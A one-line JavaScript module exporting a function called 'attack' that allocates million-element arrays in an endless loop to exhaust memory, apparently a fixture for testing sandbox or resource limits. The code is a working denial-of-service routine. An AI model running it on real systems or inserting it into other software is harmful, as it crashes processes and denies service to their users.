exports.attack = () => { const kept = []; for (;;) kept.push(new Float64Array(1_000_000).fill(1)); };
